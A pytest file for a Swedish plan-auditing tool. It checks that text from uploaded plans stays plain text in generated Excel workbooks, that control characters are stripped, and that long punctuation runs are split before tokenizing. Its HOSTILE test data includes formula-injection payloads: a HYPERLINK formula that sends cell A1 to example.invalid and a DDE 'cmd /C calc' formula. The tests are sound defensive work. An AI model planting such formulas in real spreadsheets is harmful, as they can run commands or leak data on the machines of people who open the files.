"""Text safety: no text from a plan becomes a formula in any workbook aligner writes, a control
character never stops a report, and pathological runs reach spaCy's tokenizer cut into bounded pieces."""

import io
import random
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

import aligner.cli.common
from aligner.cli import main
from aligner.text import MAX_TOKEN_CHARS, bounded_tokens

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"Öka tryggheten")',
    "=cmd|' /C calc'!A0 Öka tryggheten",
    "+1+1 Öka tryggheten i stadsdelarna",
    "@SUM(A1) Öka tryggheten i skolan",
    "-2+3 Öka tryggheten i parkerna",
    "Öka tryggheten\x01 i centrum",
]


def hostile_csv(path: Path) -> Path:
    rows = ["Mål;Aktivitet"] + [f"{text};Genomföra trygghetsvandringar {n}" for n, text in enumerate(HOSTILE)]
    path.write_text("\n".join(f'"{a.replace(chr(34), chr(34) * 2)}";{b}' for a, b in
                              (row.split(";", 1) for row in rows)), encoding="utf-8")
    return path


def formulas(xlsx: bytes) -> list[str]:
    """Every cell formula in a workbook, from its XML (what Excel would evaluate)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += [part.split("</f>")[0] for part in xml.split("<f>")[1:]]
    return found


def texts(xlsx: bytes) -> list[str]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(xlsx))
    return [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.fixture
def cli(monkeypatch, tagger):
    monkeypatch.setattr(aligner.cli.common, "tagger", lambda rules_dir: tagger)
    return CliRunner()


def test_audit_workbook_holds_user_text_as_text_never_a_formula(cli, tmp_path):
    folder = tmp_path / "planer"
    folder.mkdir()
    hostile_csv(folder / "plan.csv")
    result = cli.invoke(main, ["audit", str(folder), "--output-dir", str(tmp_path / "ut"), "-q"])
    assert result.exit_code in (0, 1), result.output
    data = (tmp_path / "ut" / "granskning.xlsx").read_bytes()
    assert formulas(data) == []
    cells = texts(data)
    assert HOSTILE[0] in cells and HOSTILE[1] in cells  # kept, as text
    assert "Öka tryggheten i centrum" in cells  # the control character removed
    assert "varning: granskning.xlsx: " in result.output and "osynliga styrtecken" in result.output


def test_serve_excel_download_holds_no_formula(tmp_path, tagger):
    from aligner.web import check_upload

    path = hostile_csv(tmp_path / "plan.csv")
    with path.open("rb") as stream:
        checked = check_upload(stream, "plan.csv", tagger)
    excel = next(d for d in checked.downloads if d.filename.endswith(".granskning.xlsx"))
    assert formulas(excel.data) == []
    assert HOSTILE[0] in texts(excel.data)
    assert any("styrtecken" in n for n in checked.notices)


def test_annotated_excel_copy_holds_no_formula_from_plan_text(tmp_path, tagger):
    from openpyxl import Workbook

    from aligner.run.annotate import annotate_plan

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Mål", "Aktivitet"])
    for n, text in enumerate(HOSTILE):
        sheet.append([text.replace("\x01", ""), f"Genomföra trygghetsvandringar {n}"])
    for row in sheet.iter_rows(min_row=2):
        row[0].data_type = "s"  # the plan's own cells are text, as a planner's would be
    source = tmp_path / "plan.xlsx"
    workbook.save(source)
    done = annotate_plan(source, tmp_path / "kopia.xlsx", tagger)
    assert formulas(done.output.read_bytes()) == []


def test_cell_text_removes_control_characters_and_counts_them():
    from aligner.reports.cells import CellText

    clean = CellText()
    assert clean("a\x01b\x1f\x7fc\ud800") == "abc" and clean("rad 1\nrad 2\tx") == "rad 1\nrad 2\tx"
    assert clean(3) == 3 and clean.removed == 4
    assert "4 osynliga styrtecken" in clean.warning("granskning.xlsx")


# --- The tokenizer's input -------------------------------------------------------------------------


def test_bounded_tokens_keeps_ordinary_text_and_every_offset():
    text = "Öka tryggheten (i alla stadsdelar) – 2026: \"fler\" ska känna sig trygga... 1.2.3"
    assert bounded_tokens(text) == text
    rng = random.Random(15)
    for _ in range(500):
        text = "".join(rng.choice('ab "()-.\n…') for _ in range(rng.randrange(0, 600)))
        bounded = bounded_tokens(text)
        assert len(bounded) == len(text)
        assert all(len(piece) <= MAX_TOKEN_CHARS for piece in bounded.split())
        assert all(b == t or b == " " for b, t in zip(bounded, text, strict=True))


@pytest.mark.parametrize("run", ['"' * 20_000, ")" * 20_000, "(" * 20_000, "a)" * 10_000])
def test_pathological_runs_tag_like_the_text_without_them(tagger, run):
    """(How long it takes is measured in benchmarks/hostile.py, not here.)"""
    plain = tagger.tag_text("Öka tryggheten i stadsdelarna")
    hostile = tagger.tag_text("Öka tryggheten i stadsdelarna " + run)
    assert hostile.concepts == plain.concepts
    assert [(e.start, e.end) for t in hostile.tags for e in t.evidence] == \
        [(e.start, e.end) for t in plain.tags for e in t.evidence]
